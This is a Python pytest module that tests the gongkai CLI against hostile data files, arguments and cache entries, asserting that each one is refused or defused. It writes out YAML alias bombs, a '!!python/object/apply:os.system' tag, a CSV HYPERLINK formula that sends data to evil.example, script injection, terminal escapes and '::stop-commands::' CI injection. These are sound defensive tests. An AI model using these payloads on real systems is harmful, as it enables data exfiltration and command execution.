"""Hostile input: data files, arguments, environments and output streams built to crash, hang or fool gongkai.

Every case runs the real console script in a child process under memory and CPU limits, and pins what it must
do instead: the exit code, the message (at its file and line where it has one), no traceback, and a bound on
the CPU time it takes. Large inputs are generated here, never stored in the repository.
"""

from __future__ import annotations

import contextlib
import csv
import ctypes
import functools
import io
import marshal
import os
import re
import resource
import shlex
import shutil
import stat
import subprocess
import sys
import tempfile
import time
import zlib
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
import yaml
from conftest import DATA

from gongkai_cli import cache, load
from gongkai_cli.errors import DataError
from gongkai_cli.models import Division, Task

# Limits of every child process: a runaway expansion must hit them, not the test machine.
MEMORY_LIMIT = 1 << 30
CPU_SECONDS = 10
TIMEOUT = 20
# CPU-time bounds (the child's, or this process's for in-process cases): what a case costs, whatever else loads
# the machine; a refused expansion bomb is a fraction of a second. A child that hangs meets TIMEOUT instead.
QUICK = 5.0
BOMB_QUICK = 3.0

# Variables of the caller's environment that would change what a case sees.
CLEARED = ("GONGKAI_DATA", "GONGKAI_MAX_FILE_MB", "GONGKAI_CACHE_DIR", "PYTHONUNBUFFERED", "PYTHONIOENCODING")

UNOWNED_UID = 65534  # nobody

# The head of tasks.yaml up to `sections:`: a real, valid document block.
_TASKS_TEXT = (DATA / "tasks.yaml").read_text(encoding="utf-8")
DOCUMENT = _TASKS_TEXT[_TASKS_TEXT.index("document:") : _TASKS_TEXT.index("sections:")]
FIRST_SECTION_TITLE = "    title: 围绕中心工作抓好主动公开。\n"


# --- running the console script ---------------------------------------------------------------------------


@dataclass(frozen=True)
class Ran:
    """What one child process did."""

    code: int
    out: bytes
    err: bytes
    seconds: float  # CPU time, user and system

    @property
    def stdout(self) -> str:
        return self.out.decode("utf-8", "backslashreplace")

    @property
    def stderr(self) -> str:
        return self.err.decode("utf-8", "backslashreplace")

    @property
    def output(self) -> str:
        return self.stdout + self.stderr


def private_folder(path: Path) -> Path:
    """A folder only this user can enter, whatever the umask."""
    path.mkdir(exist_ok=True)
    path.chmod(0o700)
    return path


def child_env(tmp_path: Path, **settings: str) -> dict[str, str]:
    """The caller's environment without gongkai's settings, a pinned terminal, and a private cache folder."""
    env = {name: value for name, value in os.environ.items() if name not in CLEARED}
    env.update(COLUMNS="100", NO_COLOR="1")
    if "GONGKAI_CACHE_DIR" not in settings:
        env["GONGKAI_CACHE_DIR"] = str(private_folder(tmp_path / ".gongkai-cache"))
    env.update(settings)
    return env


def _limited(then: Callable[[], None] | None) -> Callable[[], None]:
    def preexec() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (MEMORY_LIMIT, MEMORY_LIMIT))
        resource.setrlimit(resource.RLIMIT_CPU, (CPU_SECONDS, CPU_SECONDS))
        if then is not None:
            then()

    return preexec


def children_cpu() -> float:
    """CPU seconds used by this process's finished children: the difference over one run is that child's."""
    usage = resource.getrusage(resource.RUSAGE_CHILDREN)
    return usage.ru_utime + usage.ru_stime


FORMATS = ["table", "json", "csv", "md"]


def by_default(fmt: str) -> list[pytest.MarkDecorator]:
    """Where every format is tried on the same case: table and JSON in every run, CSV and Markdown (which write
    through the same code) in the deep profile, so that the default run stays within its two minutes."""
    return [pytest.mark.stress] if fmt in ("csv", "md") else []


def formats() -> list[Any]:
    """FORMATS as parameters, marked as `by_default` says."""
    return [pytest.param(fmt, id=fmt, marks=by_default(fmt)) for fmt in FORMATS]


def command(*args: str | bytes) -> list[str | bytes]:
    return [sys.executable, "-m", "gongkai_cli", *args]


def gongkai(
    cwd: Path,
    *args: str | bytes,
    env: dict[str, str] | None = None,
    stdout: Any = subprocess.PIPE,
    then: Callable[[], None] | None = None,
) -> Ran:
    """Run `gongkai ARGS` in `cwd` under the resource limits; `then` runs in the child before the program."""
    start = children_cpu()
    proc = subprocess.run(
        command(*args),
        cwd=cwd,
        env=env if env is not None else child_env(cwd),
        stdin=subprocess.DEVNULL,
        stdout=stdout,
        stderr=subprocess.PIPE,
        preexec_fn=_limited(then),
        timeout=TIMEOUT,
    )
    return Ran(proc.returncode, proc.stdout or b"", proc.stderr, children_cpu() - start)


def expect(ran: Ran, code: int, *fragments: str, within: float = QUICK) -> None:
    """The exit code, each fragment somewhere in the output, no traceback, and quick."""
    assert ran.code == code, ran.output
    assert "Traceback" not in ran.output
    for fragment in fragments:
        assert fragment in ran.output, f"{fragment!r} not in:\n{ran.output}"
    assert ran.seconds < within, f"took {ran.seconds:.2f} s of CPU"


def problem_line(ran: Ran, prefix: str, *fragments: str) -> str:
    """The one output line that starts with `prefix` (a path and line) and holds every fragment."""
    found = [
        line
        for line in ran.output.splitlines()
        if line.startswith(prefix) and all(fragment in line for fragment in fragments)
    ]
    assert len(found) == 1, f"no single line {prefix!r} with {fragments!r} in:\n{ran.output}"
    return found[0]


# --- building data folders ---------------------------------------------------------------------------------


def copy_data(target: Path) -> Path:
    shutil.copytree(DATA, target)
    return target


def edit(path: Path, old: str, new: str) -> None:
    """Replace the first `old` in a data file; fail loudly if the data no longer contains it."""
    text = path.read_text(encoding="utf-8")
    assert old in text, f"{old!r} is not in {path.name}: the test needs updating for the data"
    path.write_text(text.replace(old, new, 1), encoding="utf-8")


def add_units(folder: Path, entries: str) -> None:
    """Append unit entries (YAML text) to the end of the `units:` list of units.yaml."""
    edit(folder / "units.yaml", "\ngroups:", "\n" + entries + "\ngroups:")


def unit_entries(*names: str, kind: str = "department") -> str:
    """Unit entries for units.yaml; each name is written as given (quote it in YAML where needed)."""
    return "".join(f"  - name: {name}\n    kind: {kind}\n" for name in names)


def line_of(path: Path, marker: str) -> int:
    """The 1-based line where `marker` stands; it must stand there exactly once."""
    text = path.read_text(encoding="utf-8")
    assert text.count(marker) == 1, f"marker {marker!r} occurs {text.count(marker)} times in {path.name}"
    return text[: text.index(marker)].count("\n") + 1


def requirement_with(path: Path, start: str, escape: str) -> int:
    """Put a YAML escape sequence in front of the requirement that starts with `start`; its line."""
    old = f"requirement: {start}"
    lines = path.read_text(encoding="utf-8").split("\n")
    hits = [i for i, line in enumerate(lines) if line.strip().startswith(old)]
    assert len(hits) == 1, f"{old!r} is not on exactly one line of {path.name}"
    line = lines[hits[0]]
    head, _, text = line.partition("requirement: ")
    assert '"' not in text and "\\" not in text, "the requirement must fit in a double-quoted YAML string"
    lines[hits[0]] = f'{head}requirement: "{escape}{text}"'
    path.write_text("\n".join(lines), encoding="utf-8")
    return hits[0] + 1


# --- 1. YAML built to explode, recurse, execute or nest --------------------------------------------------

LEAF_TASK = (
    "{number: 1, requirement: 要求, responsibility: 市政府办公室负责落实, leads: [], "
    "implementers: [市政府办公室], time_limit: {text: 持续推进, kind: ongoing}}"
)


def _repeat(first: str, alias: str, width: int) -> str:
    return "[" + ", ".join([first] + [alias] * (width - 1)) + "]"


def schema_shaped_bomb(width: int = 300) -> str:
    """A valid-looking table whose aliases would expand to width**3 tasks: 27 million at 300."""
    subsection = f"&b {{numeral: 一, title: 小标题, tasks: {_repeat('&t ' + LEAF_TASK, '*t', width)}}}"
    section = f"&s {{numeral: 一, title: 部分, subsections: {_repeat(subsection, '*b', width)}}}"
    return DOCUMENT + f"sections: {_repeat(section, '*s', width)}\n"


def billion_laughs(levels: int = 9, width: int = 9) -> str:
    lines = ["lol0: &lol0 [" + ", ".join(['"lol"'] * width) + "]"]
    lines += [f"lol{i}: &lol{i} [" + ", ".join([f"*lol{i - 1}"] * width) + "]" for i in range(1, levels + 1)]
    return "\n".join(lines) + "\n"


def deep_mapping(levels: int = 200) -> str:
    return "".join("  " * i + f"k{i}:\n" for i in range(levels)) + "  " * levels + "leaf\n"


@dataclass(frozen=True)
class Hostile:
    """A tasks.yaml and what `check` must say about it: a line starting with `prefix` holding `fragments`."""

    content: str | bytes
    prefix: str
    fragments: tuple[str, ...]
    within: float = QUICK


HOSTILE_TASKS = {
    "alias-bomb-schema-shaped": Hostile(
        schema_shaped_bomb(), "data/tasks.yaml: ", ("别名（*）展开后会多出", "超过上限 100,000"), BOMB_QUICK
    ),
    "billion-laughs": Hostile(billion_laughs(), "data/tasks.yaml: ", ("别名（*）展开后会多出",), BOMB_QUICK),
    "recursive-alias-in-a-list": Hostile("a: &a [*a]\n", "data/tasks.yaml:1:", ("别名（*）", "形成循环")),
    "recursive-alias-in-a-mapping": Hostile("document: &d\n  self: *d\n", "data/tasks.yaml:1:", ("形成循环",)),
    "deep-flow-nesting": Hostile("[" * 10_000, "data/tasks.yaml:1:", ("YAML",)),
    "deep-flow-nesting-closed": Hostile(
        "document: " + "[" * 10_000 + "]" * 10_000 + "\n", "data/tasks.yaml:1:", ("YAML",)
    ),
    "deep-block-nesting-with-an-anchor": Hostile(
        deep_mapping() + "anchored: &a 1\n", "data/tasks.yaml:65:", ("嵌套超过 64 层",)
    ),
    "nul-bytes-only": Hostile(b"\x00" * 1000, "data/tasks.yaml:1:1: ", ("空字符 U+0000",)),
    "empty-file": Hostile("", "data/tasks.yaml: ", ("文件应为“键: 值”映射",)),
    "comments-only": Hostile("# nothing here\n", "data/tasks.yaml: ", ("文件应为“键: 值”映射",)),
    "top-level-list": Hostile("- document\n- sections\n", "data/tasks.yaml:1:1: ", ("文件应为“键: 值”映射",)),
    "top-level-scalar": Hostile("池州市\n", "data/tasks.yaml:1:1: ", ("文件应为“键: 值”映射",)),
}


@pytest.mark.parametrize("case", HOSTILE_TASKS.values(), ids=HOSTILE_TASKS.keys())
def test_hostile_tasks_file_is_refused(tmp_path: Path, data_copy: Path, case: Hostile) -> None:
    path = data_copy / "tasks.yaml"
    if isinstance(case.content, bytes):
        path.write_bytes(case.content)
    else:
        path.write_text(case.content, encoding="utf-8")
    ran = gongkai(tmp_path, "check", "data")
    expect(ran, 1, within=case.within)
    problem_line(ran, case.prefix, *case.fragments)


# A file with no anchor cannot expand, so it is not walked node by node and the 64-level bound is not applied;
# the parser's own bound (1,000 levels) and the schema refuse these, and nothing may recurse out of control.
DEEP_WITHOUT_ANCHORS = {
    "block-mappings": deep_mapping(),
    "block-mappings-in-sections": DOCUMENT
    + "sections:\n"
    + "".join("  " * (i + 1) + f"- k{i}:\n" for i in range(300))
    + "  " * 302
    + "x\n",
    "block-sequences-in-sections": DOCUMENT + "sections:\n  " + "- " * 990 + "x\n",
    "block-sequences-beyond-the-parser-bound": "- " * 5_000 + "x\n",
    "flow-in-a-title": DOCUMENT
    + "sections:\n  - numeral: 一\n    title: "
    + "[" * 990
    + "]" * 990
    + "\n    subsections: []\n",
}


@pytest.mark.parametrize(
    "content",
    [
        # Each shape is a bomb of its own; block mappings in every run, the others in the deep profile.
        pytest.param(content, id=name, marks=[] if name == "block-mappings" else [pytest.mark.stress])
        for name, content in DEEP_WITHOUT_ANCHORS.items()
    ],
)
def test_deep_nesting_without_anchors_is_refused(tmp_path: Path, data_copy: Path, content: str) -> None:
    (data_copy / "tasks.yaml").write_text(content, encoding="utf-8")
    ran = gongkai(tmp_path, "check", "data")
    expect(ran, 1)
    lines = ran.stdout.splitlines()
    assert lines, ran.output
    assert all(re.match(r"data/tasks\.yaml(:\d+){1,2}: \S", line) for line in lines), ran.stdout
    expect(gongkai(tmp_path, "--data", "data", "units"), 1)


def test_alias_bomb_is_refused_by_queries_too(tmp_path: Path, data_copy: Path) -> None:
    (data_copy / "tasks.yaml").write_text(schema_shaped_bomb(), encoding="utf-8")
    ran = gongkai(tmp_path, "--data", "data", "due", "-f", "json")
    expect(ran, 1, "别名（*）展开后会多出", within=BOMB_QUICK)
    assert ran.stdout == ""


def test_alias_bomb_in_units_file_is_refused(tmp_path: Path, data_copy: Path) -> None:
    (data_copy / "units.yaml").write_text(billion_laughs(), encoding="utf-8")
    ran = gongkai(tmp_path, "check", "data")
    expect(ran, 1, within=BOMB_QUICK)
    problem_line(ran, "data/units.yaml: ", "别名（*）展开后会多出")


@pytest.mark.parametrize("where", ["top-level", "nested"])
def test_python_object_tag_is_refused_and_never_run(tmp_path: Path, data_copy: Path, where: str) -> None:
    marker = tmp_path / "executed"
    tag = f'!!python/object/apply:os.system ["touch {marker}"]'
    path = data_copy / "tasks.yaml"
    path.write_text(tag + "\n" if where == "top-level" else DOCUMENT + f"sections: {tag}\n", encoding="utf-8")
    line = 1 if where == "top-level" else line_of(path, "sections: !!python")
    for args in (["check", "data"], ["--data", "data", "units"]):
        ran = gongkai(tmp_path, *args)
        expect(ran, 1)
        problem_line(ran, f"data/tasks.yaml:{line}:", "YAML", "python/object/apply:os.system")
    assert not marker.exists(), "a YAML tag ran a command"


def test_nul_byte_inside_text_is_refused(tmp_path: Path, data_copy: Path) -> None:
    edit(data_copy / "tasks.yaml", "issuer: 池州市政务公开办公室", "issuer: 池州市\x00政务公开办公室")
    ran = gongkai(tmp_path, "check", "data")
    expect(ran, 1)
    # Reported by the YAML reader (as #x0000) or by gongkai's own scan (as U+0000); either way, this file.
    assert re.search(r"^data/tasks\.yaml(:\d+)*: .*(#x0000|U\+0000)", ran.stdout, re.MULTILINE), ran.output
    assert "\x00" not in ran.output


# --- 2. special files and oversized files --------------------------------------------------------------


def _dev_zero(path: Path) -> None:
    path.symlink_to("/dev/zero")


def _dev_urandom(path: Path) -> None:
    path.symlink_to("/dev/urandom")


def _fifo(path: Path) -> None:
    os.mkfifo(path)


SPECIAL_FILES = {"symlink-to-dev-zero": _dev_zero, "symlink-to-dev-urandom": _dev_urandom, "fifo": _fifo}


@pytest.mark.parametrize("make", SPECIAL_FILES.values(), ids=SPECIAL_FILES.keys())
@pytest.mark.parametrize("argument", ["data", "data/tasks.yaml"])
def test_special_file_as_tasks_yaml_is_refused(
    tmp_path: Path, data_copy: Path, make: Callable[[Path], None], argument: str
) -> None:
    path = data_copy / "tasks.yaml"
    path.unlink()
    make(path)
    ran = gongkai(tmp_path, "check", argument)
    expect(ran, 1)
    problem_line(ran, "data/tasks.yaml: ", "不是普通文件")


@pytest.mark.parametrize("make", SPECIAL_FILES.values(), ids=SPECIAL_FILES.keys())
def test_special_file_makes_no_data_folder_for_queries(
    tmp_path: Path, data_copy: Path, make: Callable[[Path], None]
) -> None:
    path = data_copy / "tasks.yaml"
    path.unlink()
    make(path)
    expect(gongkai(tmp_path, "--data", "data", "units"), 2, "不是数据目录")


def test_file_over_the_size_limit_is_refused(tmp_path: Path, data_copy: Path) -> None:
    path = data_copy / "tasks.yaml"
    with path.open("a", encoding="utf-8") as handle:
        handle.write("#" + "x" * (2 << 20) + "\n")
    env = child_env(tmp_path, GONGKAI_MAX_FILE_MB="1")
    ran = gongkai(tmp_path, "check", "data", env=env)
    expect(ran, 1)
    problem_line(ran, "data/tasks.yaml: ", "上限 1 MB", "GONGKAI_MAX_FILE_MB")
    expect(gongkai(tmp_path, "--data", "data", "units", env=env), 1, "上限 1 MB", "GONGKAI_MAX_FILE_MB")


# --- 3. CSV formula injection ----------------------------------------------------------------------------

FORMULA_NAMES = ('=HYPERLINK("http://evil.example/?d="&A2,"详情")', "+SUM(1,2)", "-2+3", "@SUM(A1)")


def read_csv(ran: Ran) -> tuple[list[str], list[list[str]]]:
    """Header and rows of a CSV answer, which must start with a UTF-8 BOM."""
    assert ran.out.startswith(b"\xef\xbb\xbf"), ran.out[:20]
    rows = list(csv.reader(io.StringIO(ran.out.decode("utf-8-sig"))))
    return rows[0], rows[1:]


def test_csv_defuses_formula_names(tmp_path: Path, data_copy: Path) -> None:
    add_units(data_copy, unit_entries(*(f"'{name}'" for name in FORMULA_NAMES)))
    expect(gongkai(tmp_path, "check", "data"), 0)
    ran = gongkai(tmp_path, "--data", "data", "units", "-f", "csv")
    expect(ran, 0)
    header, rows = read_csv(ran)
    by_name = {row[0]: row for row in rows}
    for name in FORMULA_NAMES:
        assert "'" + name in by_name, f"{name!r} is not defused: {sorted(by_name)}"
    assert not any(row[0].startswith(("=", "+", "-", "@")) for row in rows)
    counts = [header.index(column) for column in ("牵头", "负责", "各单位", "有关单位", "合计")]
    for row in rows:
        assert all(re.fullmatch(r"\d+", row[i]) for i in counts), row


def test_csv_writes_points_as_plain_numbers(tmp_path: Path) -> None:
    ran = gongkai(tmp_path, "--data", str(DATA), "scoring", "-f", "csv")
    expect(ran, 0)
    header, rows = read_csv(ran)
    points = [row[header.index("分值")] for row in rows]
    assert {"3", "-2", "0.5"} <= set(points), points
    assert all(re.fullmatch(r"-?\d+(\.\d+)?", value) for value in points), points


# --- 4. Markdown injection -------------------------------------------------------------------------------

MARKUP_TITLE = r"围绕<script>alert(1)</script>[x](http://evil.example)|a\\b"


def test_markdown_heading_escapes_html_links_pipes_and_backslashes(tmp_path: Path, data_copy: Path) -> None:
    edit(data_copy / "tasks.yaml", FIRST_SECTION_TITLE, f'    title: "{MARKUP_TITLE}"\n')
    expect(gongkai(tmp_path, "check", "data"), 0)
    ran = gongkai(tmp_path, "--data", "data", "section", "1", "-f", "md")
    expect(ran, 0)
    heading = ran.stdout.splitlines()[0]
    assert heading.startswith("### ")
    assert heading.endswith(r"围绕\<script\>alert(1)\</script\>\[x\](http://evil.example)\|a\\b"), heading
    # The only raw "<" left anywhere is the <br> that stands for a line break inside a cell.
    assert re.findall(r"(?<!\\)<(?!br>)", ran.stdout) == []


def test_markdown_heading_of_a_multiline_title_is_one_line(tmp_path: Path, data_copy: Path) -> None:
    edit(data_copy / "tasks.yaml", FIRST_SECTION_TITLE, '    title: "围绕中心\\n# 工作\\n抓好"\n')
    expect(gongkai(tmp_path, "check", "data"), 0)
    ran = gongkai(tmp_path, "--data", "data", "section", "1", "-f", "md")
    expect(ran, 0)
    lines = ran.stdout.splitlines()
    assert lines[0].startswith("### ") and lines[0].endswith(r"围绕中心 \# 工作 抓好"), lines[:3]
    assert lines[1] == ""
    assert not any(line.startswith("#") for line in lines[1:])


@pytest.mark.parametrize(
    ("escape", "named"), [("\\r", "回车符 U+000D"), ("\\t", "制表符 U+0009"), ("\\v", "控制字符 U+000B")]
)
def test_control_character_in_a_title_is_refused(tmp_path: Path, data_copy: Path, escape: str, named: str) -> None:
    path = data_copy / "tasks.yaml"
    edit(path, FIRST_SECTION_TITLE, f'    title: "围绕中心{escape}工作"\n')
    ran = gongkai(tmp_path, "check", "data")
    expect(ran, 1)
    problem_line(ran, f"data/tasks.yaml:{line_of(path, '围绕中心')}:", named)


# --- 5. terminal and CI escapes --------------------------------------------------------------------------

# (YAML escape, what check calls the character, the raw character that must never be printed)
ESCAPES = [
    ("\\e[2J", "ESC 转义符 U+001B", "\x1b"),
    ("\\a", "响铃符 U+0007", "\x07"),
    ("\\u202e", "双向文字控制符 U+202E", "\u202e"),
    ("\\u200b", "零宽空格 U+200B", "\u200b"),
]
# The starts of four requirements (tasks 1 to 4), one escape in each.
REQUIREMENTS = ["认真贯彻落实省委", "紧扣民生领域", "及时回应群众关切", "聚焦“高效办成一件事”"]


@pytest.mark.parametrize("fmt", ["text", "github"])
def test_terminal_escapes_in_data_are_named_not_printed(tmp_path: Path, data_copy: Path, fmt: str) -> None:
    path = data_copy / "tasks.yaml"
    lines = [requirement_with(path, start, escape) for start, (escape, _, _) in zip(REQUIREMENTS, ESCAPES, strict=True)]
    ran = gongkai(tmp_path, "check", "data", "--format", fmt)
    expect(ran, 1)
    for line, (_, name, raw) in zip(lines, ESCAPES, strict=True):
        if fmt == "text":
            problem_line(ran, f"data/tasks.yaml:{line}:", name)
        else:
            problem_line(ran, "::error file=data/tasks.yaml,", f"line={line},", name)
        assert raw not in ran.output
    assert "\x1b" not in ran.output and "\x07" not in ran.output


def test_terminal_escapes_in_an_argument_are_not_printed(tmp_path: Path) -> None:
    for args in (["unit", "\x1b[2J市\x07局\u202e"], ["search", "\x1b[2J"], ["show", "\x1b]0;title\x07"]):
        ran = gongkai(tmp_path, "--data", str(DATA), *args)
        assert ran.code in (0, 2), ran.output
        assert "Traceback" not in ran.output
        for raw in ("\x1b", "\x07", "\u202e"):
            assert raw not in ran.output, (args, ran.output)
    expect(gongkai(tmp_path, "--data", str(DATA), "unit", "\x1b[2J市\x07局"), 2, "\\x1b[2J市\\x07局")


@pytest.mark.parametrize("fmt", ["text", "github"])
def test_workflow_command_in_data_cannot_start_a_line(tmp_path: Path, data_copy: Path, fmt: str) -> None:
    edit(
        data_copy / "tasks.yaml",
        "responsibility: 市政府办公室牵头，市政府有关部门，各县区政府、管委会负责落实",
        'responsibility: "市政府办公室牵头，市政府有关部门\\n::stop-commands::x\\n，各县区政府、管委会负责落实"',
    )
    ran = gongkai(tmp_path, "check", "data", "--format", fmt)
    expect(ran, 1, "data/tasks.yaml:40:29" if fmt == "text" else "line=40,col=29", "文字中有一行以“::”开头")
    assert not [line for line in ran.output.splitlines() if line.lstrip().startswith("::stop-commands")], ran.output
    if fmt == "github":
        assert all(line.startswith("::error ") for line in ran.stdout.splitlines()), ran.stdout


@pytest.mark.parametrize("fmt", formats())
def test_workflow_command_in_a_multiline_requirement_is_refused(tmp_path: Path, data_copy: Path, fmt: str) -> None:
    # A line break in a requirement is allowed (paragraphs), but CSV keeps it inside the quoted cell, as the
    # format requires: a line of data starting with "::" would start a line a CI runner obeys. check refuses it.
    edit(
        data_copy / "tasks.yaml",
        "requirement: 及时回应群众关切，推动“民声呼应”提质增效。",
        'requirement: "及时回应群众关切，\\n::stop-commands::x\\n推动“民声呼应”提质增效。"',
    )
    expect(gongkai(tmp_path, "check", "data"), 1, "data/tasks.yaml:53:26: 文字中有一行以“::”开头")
    ran = gongkai(tmp_path, "--data", "data", "show", "3", "-f", fmt)
    expect(ran, 1, "以“::”开头")
    assert not [line for line in ran.output.splitlines() if line.lstrip().startswith("::")], ran.output


# --- 6. rich markup in data is printed as it is -----------------------------------------------------------


@pytest.fixture
def markup_data(tmp_path: Path, data_copy: Path) -> Path:
    add_units(data_copy, unit_entries("市[/]局", "'[red]红局[/]'"))
    edit(data_copy / "tasks.yaml", FIRST_SECTION_TITLE, "    title: 围绕[link=https://evil.example]点我[/link]中心\n")
    expect(gongkai(tmp_path, "check", "data"), 0)
    return data_copy


def test_markup_in_a_unit_name_is_literal(tmp_path: Path, markup_data: Path) -> None:
    ran = gongkai(tmp_path, "--data", "data", "unit", "市[/]局")
    expect(ran, 0)
    assert "市[/]局" in ran.stdout


def test_markup_in_the_units_table_is_literal(tmp_path: Path, markup_data: Path) -> None:
    ran = gongkai(tmp_path, "--data", "data", "units")
    expect(ran, 0)
    assert "[red]红局[/]" in ran.stdout and "市[/]局" in ran.stdout


def test_markup_in_a_section_title_is_literal(tmp_path: Path, markup_data: Path) -> None:
    ran = gongkai(tmp_path, "--data", "data", "section", "1")
    expect(ran, 0)
    assert "[link=https://evil.example]点我[/link]" in ran.stdout


def test_group_members_line_with_markup_names(tmp_path: Path, markup_data: Path) -> None:
    ran = gongkai(tmp_path, "--data", "data", "unit", "市政府各部门")
    expect(ran, 0)
    assert "市[/]局" in ran.stderr and "[red]红局[/]" in ran.stderr


# --- 7. the cache trusts nothing it did not write ----------------------------------------------------------


@pytest.fixture
def cache_env(monkeypatch: pytest.MonkeyPatch) -> Callable[[Path], Path]:
    def use(folder: Path) -> Path:
        monkeypatch.setenv("GONGKAI_CACHE_DIR", str(folder))
        return folder

    return use


def _requirement(division: Division, number: int) -> str:
    return next(task.requirement for task in division.tasks if task.number == number)


@functools.cache
def real_17() -> str:
    """Task 17's requirement as the shipped data states it."""
    return _requirement(load.load_data(DATA, use_cache=False), 17)


def with_task_field(division: Division, number: int, field: str, value: object) -> Any:
    """The `cache.to_payload` of `division` with one field of task `number` set to `value`, unchecked: a value of
    the wrong type is stored as it is, as a forged file would hold it."""

    def tasks(found: tuple[Task, ...]) -> tuple[Task, ...]:
        return tuple(t._replace(**{field: value}) if t.number == number else t for t in found)

    table = division.tasks_file
    sections = tuple(
        s._replace(tasks=tasks(s.tasks), subsections=tuple(u._replace(tasks=tasks(u.tasks)) for u in s.subsections))
        for s in table.sections
    )
    return cache.to_payload(Division(table._replace(tasks=tasks(table.tasks), sections=sections), division.units_file))


def plant(folder: Path, data_dir: Path, payload: Any) -> Path:
    """A cache entry for `data_dir` holding `payload`, with the header and checksum `cache.write` gives it."""
    contents, problems = load.read_files(load.one_table_files(data_dir))
    assert not problems
    body = marshal.dumps(payload)
    header = cache.MAGIC + bytes([cache.FORMAT]) + cache.data_key(contents)
    path = cache.cache_file(folder, data_dir)
    path.write_bytes(header + zlib.crc32(body).to_bytes(4, "big") + body)
    path.chmod(0o600)
    return path


def forged_17(data_dir: Path) -> Any:
    """The data's payload with task 17's requirement changed: well-formed, so served if it were trusted."""
    return with_task_field(load.load_data(data_dir, use_cache=False), 17, "requirement", "伪造的要求")


def test_planted_entry_in_a_private_folder_is_served(
    tmp_path: Path, data_copy: Path, cache_env: Callable[[Path], Path]
) -> None:
    """The control for the cases below: the planted entry is well-formed, so only distrust keeps it out."""
    folder = cache_env(private_folder(tmp_path / "cache"))
    plant(folder, data_copy, forged_17(data_copy))
    assert _requirement(load.load_data(data_copy), 17) == "伪造的要求"


def test_world_writable_cache_folder_is_not_used(
    tmp_path: Path, data_copy: Path, cache_env: Callable[[Path], Path]
) -> None:
    folder = cache_env(tmp_path / "cache")
    folder.mkdir()
    folder.chmod(0o777)
    assert _requirement(load.load_data(data_copy), 17) == real_17()
    assert list(folder.iterdir()) == [], "wrote a cache file where others can write"
    plant(folder, data_copy, forged_17(data_copy))
    assert _requirement(load.load_data(data_copy), 17) == real_17()


def test_cache_folder_owned_by_another_user_is_not_used(
    tmp_path: Path, data_copy: Path, cache_env: Callable[[Path], Path]
) -> None:
    if os.geteuid() != 0:
        pytest.skip("giving a folder to another user needs root")
    folder = cache_env(private_folder(tmp_path / "cache"))
    planted = plant(folder, data_copy, forged_17(data_copy))
    os.chown(planted, UNOWNED_UID, UNOWNED_UID)
    os.chown(folder, UNOWNED_UID, UNOWNED_UID)
    assert _requirement(load.load_data(data_copy), 17) == real_17()
    assert list(folder.iterdir()) == [planted]


def _entry_symlink_to_dev_zero(path: Path, data_dir: Path) -> None:
    path.symlink_to("/dev/zero")


def _entry_fifo(path: Path, data_dir: Path) -> None:
    os.mkfifo(path, 0o600)


def _entry_writable_by_others(path: Path, data_dir: Path) -> None:
    plant(path.parent, data_dir, forged_17(data_dir)).chmod(0o666)


def _entry_owned_by_another_user(path: Path, data_dir: Path) -> None:
    if os.geteuid() != 0:
        pytest.skip("giving a file to another user needs root")
    os.chown(plant(path.parent, data_dir, forged_17(data_dir)), UNOWNED_UID, UNOWNED_UID)


def _entry_number_as_text(path: Path, data_dir: Path) -> None:
    plant(path.parent, data_dir, with_task_field(load.load_data(data_dir, use_cache=False), 17, "number", "17"))


def _entry_requirement_as_number(path: Path, data_dir: Path) -> None:
    plant(path.parent, data_dir, with_task_field(load.load_data(data_dir, use_cache=False), 17, "requirement", 17))


UNTRUSTED_ENTRIES = {
    "symlink-to-dev-zero": _entry_symlink_to_dev_zero,
    "fifo": _entry_fifo,
    "mode-0666": _entry_writable_by_others,
    "owned-by-another-user": _entry_owned_by_another_user,
    "forged-number-as-text": _entry_number_as_text,
    "forged-requirement-as-number": _entry_requirement_as_number,
}


@pytest.mark.parametrize("make", UNTRUSTED_ENTRIES.values(), ids=UNTRUSTED_ENTRIES.keys())
def test_untrusted_cache_entry_is_ignored(
    tmp_path: Path, data_copy: Path, cache_env: Callable[[Path], Path], make: Callable[[Path, Path], None]
) -> None:
    folder = cache_env(private_folder(tmp_path / "cache"))
    make(cache.cache_file(folder, data_copy), data_copy)
    start = time.process_time()
    division = load.load_data(data_copy)
    assert time.process_time() - start < QUICK
    assert _requirement(division, 17) == real_17()
    assert [task.number for task in division.tasks] == list(range(1, 45))


def test_cache_folder_and_file_are_private_whatever_the_umask(
    tmp_path: Path, data_copy: Path, cache_env: Callable[[Path], Path]
) -> None:
    folder = cache_env(tmp_path / "cache")
    old = os.umask(0)
    try:
        load.load_data(data_copy)
    finally:
        os.umask(old)
    assert stat.S_IMODE(folder.stat().st_mode) == 0o700
    files = list(folder.iterdir())
    assert len(files) == 1
    assert stat.S_IMODE(files[0].stat().st_mode) == 0o600


@pytest.mark.parametrize("setting", ["OFF", "false", "0", "no"])
def test_cache_switched_off_creates_no_folder(tmp_path: Path, setting: str) -> None:
    expect(gongkai(tmp_path, "--data", str(DATA), "units", env=child_env(tmp_path, GONGKAI_CACHE_DIR=setting)), 0)
    assert not (tmp_path / setting).exists()
    assert list(tmp_path.iterdir()) == []


# --- 8. what used to be a traceback is a message ------------------------------------------------------------

HUGE = "1" + "0" * 5000


def test_year_beyond_what_dates_hold(tmp_path: Path, data_copy: Path) -> None:
    path = data_copy / "tasks.yaml"
    edit(path, "  year: 2024\n", "  year: 2147483648\n")
    ran = gongkai(tmp_path, "check", "data")
    expect(ran, 1)
    problem_line(ran, f"data/tasks.yaml:{line_of(path, 'year: 2147483648')}:", "year", "2999")
    expect(gongkai(tmp_path, "--data", "data", "due"), 1, "2999")


def test_task_number_of_5000_digits(tmp_path: Path, data_copy: Path) -> None:
    path = data_copy / "tasks.yaml"
    edit(path, "- number: 17\n", f"- number: {HUGE}\n")
    ran = gongkai(tmp_path, "check", "data")
    expect(ran, 1)
    problem_line(ran, f"data/tasks.yaml:{line_of(path, HUGE)}:", "number")
    expect(gongkai(tmp_path, "--data", "data", "show", "16"), 1)


@pytest.mark.parametrize(
    ("args", "opening"),
    [
        # Each argument reads the digits with its own parser: a date and a task number in every run, the duration,
        # the other date, the section and the unit in the deep profile.
        pytest.param(
            ["due", "--within", HUGE + "d"], f"错误：时长“{HUGE[:9]}", id="due-within", marks=pytest.mark.stress
        ),
        pytest.param(["due", "--before", HUGE], f"错误：--before 的日期“{HUGE[:9]}", id="due-before"),
        pytest.param(
